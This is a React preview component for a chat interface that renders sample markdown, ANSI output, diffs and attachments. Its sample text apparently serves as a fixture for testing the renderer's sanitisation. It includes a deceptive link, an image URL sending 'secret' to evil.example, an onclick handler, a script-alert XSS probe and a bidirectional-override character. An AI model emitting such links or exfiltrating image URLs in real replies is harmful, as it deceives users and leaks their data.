// What chats are drawn of: texts of models, output, changes, and the pane.
import { useState } from 'react';
import type { Attachment } from '../../api';
import { Output } from '../../chats/ansi';
import { compare, diffOfCall, readPatch } from '../../chats/diff';
import { Diff } from '../../chats/diff/view';
import { Markdown } from '../../chats/markdown';
import { ChatPane, type PaneKind } from '../../chats/panes';
import * as ui from '../../ui';

const TEXT = `# A heading

Some **bold**, *italic*, ~~struck~~ and \`code\`, with a [link](https://docs.example/x), one that lies:
[https://bank.example](https://evil.example/), one that says where it leads: https://a.example/path, mail a@b.example and a
file: [app.py](src/app.py). An image: ![chart of sales](https://evil.example/?q=secret). HTML: <b onclick=x>bold</b>. Hidden: a\u202eb.

1. First
   - nested
   - [x] done
   - [ ] open
2. Second

> A quote
> > and one inside

\`\`\`ts
const answer: number = 42; // a comment
export function greet(name: string) {
  return \`Hello \${name}\`;
}
\`\`\`

| Name | Count | A longer column with words |
|:-----|------:|:--------------------------:|
| one | 1 | left |
| two | 22 | right |

<script>alert(1)</script>

---

שלום עולם, this line has two directions.
`;

const OUTPUT =
  '\x1b[32m✔\x1b[0m adds a todo \x1b[2m(2.9 ms)\x1b[0m\n\x1b[31m✖ marks a todo as done\x1b[0m\n' +
  '\x1b[30;42m PASS \x1b[0m \x1b[1mbold\x1b[0m \x1b[4munder\x1b[0m \x1b[33myellow\x1b[0m \x1b[34mblue\x1b[0m \x1b[35mmagenta\x1b[0m ' +
  '\x1b[36mcyan\x1b[0m \x1b[90mgrey\x1b[0m \x1b[7m inverse \x1b[0m\n 10 %\r 55 %\r100 %\n';

const PATCH =
  'diff --git a/src/store.js b/src/store.js\n--- a/src/store.js\n+++ b/src/store.js\n@@ -18,4 +18,4 @@ class Store\n   toggle(id) {\n' +
  '-    t.done != t.done;\n+    t.done = !t.done;\n     this.save();\n   }\n';

const file = (id: string, name: string, mediaType: string): Attachment => ({
  id,
  chatId: 'chat_a',
  kind: 'artifact',
  name,
  mediaType,
  size: 24_000,
  sha256: '',
  status: 'synced',
  path: null,
  error: null,
  createdAt: '',
});

export function ChatParts() {
  const [kind, setKind] = useState<PaneKind>('artifact');
  const [target, setTarget] = useState<string | null>(null);
  const [length, setLength] = useState(TEXT.length);
  const changes = [
    ...readPatch(PATCH),
    ...(diffOfCall('sandbox_write_file', { path: 'a.py', content: 'print(1)\n'.repeat(80) }) ?? []),
    compare('notes.md', 'one\ntwo\nthree', 'one\n2\nthree'),
  ];
  return (
    <>
      <ui.Card title="Text of a model">
        <Markdown text={TEXT.slice(0, length)} streaming={length < TEXT.length} />
        <ui.Slider label="Characters" value={length} onChange={setLength} min={0} max={TEXT.length} />
      </ui.Card>
      <ui.Card title="Output" flush>
        <Output text={OUTPUT} live />
      </ui.Card>
      <ui.Card title="Changes" flush>
        <Diff files={changes} />
      </ui.Card>
      <ui.Card title="Pane" flush>
        <div style={{ height: 420 }}>
          <ChatPane
            chat={{ id: 'chat_a', sandboxId: null, sandboxes: [] }}
            kind={kind}
            target={target}
            onKind={(next, of) => {
              setKind(next);
              setTarget(of);
            }}
            onClose={() => {}}
            services={[]}
            attachments={[
              file('att_a', 'notes.md', 'text/markdown'),
              file('att_b', 'table.csv', 'text/csv'),
              file('att_c', 'jobs.sqlite', 'application/octet-stream'),
              file('att_d', 'data.json', 'application/json'),
            ]}
            changes={changes}
          />
        </div>
      </ui.Card>
    </>
  );
}
